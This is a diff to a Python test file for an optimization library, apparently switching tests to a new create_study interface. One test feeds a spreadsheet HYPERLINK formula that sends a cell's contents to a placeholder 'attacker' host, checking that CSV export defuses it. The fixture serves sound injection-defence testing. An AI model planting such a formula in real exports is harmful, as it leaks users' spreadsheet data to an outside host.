@@ -9,6 +9,7 @@ import bodi
 from bodi.cli import main
 from bodi.escaping import csv_cell, for_terminal
 from bodi.space import Binary, SearchSpace
+from bodi.study import create_study
 
 SPACE = SearchSpace([Binary(f"b{i}") for i in range(4)])
 
@@ -22,8 +23,8 @@ def _study(path, name, values, messages=()):
             raise RuntimeError(next(messages))
         return value
 
-    opt = bodi.RandomSearch(SPACE, seed=0, storage=path, study_name=name)
-    bodi.minimize(f, SPACE, budget=5, optimizer=opt, catch=RuntimeError)
+    study = create_study(bodi.RandomSearch(SPACE, seed=0), storage=path, study_name=name)
+    bodi.minimize(f, SPACE, budget=5, study=study, catch=RuntimeError)
     return path
 
 
@@ -43,10 +44,10 @@ def test_studies_prints_no_escape_sequence_of_a_study_name(tmp_path, capsys):
 
 
 def test_show_csv_writes_no_live_formula(tmp_path, capsys):
-    opt = bodi.RandomSearch(SPACE, seed=0, storage=tmp_path / "s.db")
+    study = create_study(bodi.RandomSearch(SPACE, seed=0), storage=tmp_path / "s.db")
     formula = '=HYPERLINK("http://attacker/?"&A1,"click")'
-    opt.tell_failure(opt.ask(), formula)
-    opt.tell(opt.ask(), -2.0)
+    study.tell_failure(study.ask(), formula)
+    study.tell(study.ask(), -2.0)
     assert main(["show", str(tmp_path / "s.db"), "--csv", "-"]) == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert rows[0]["message"] == "'" + formula
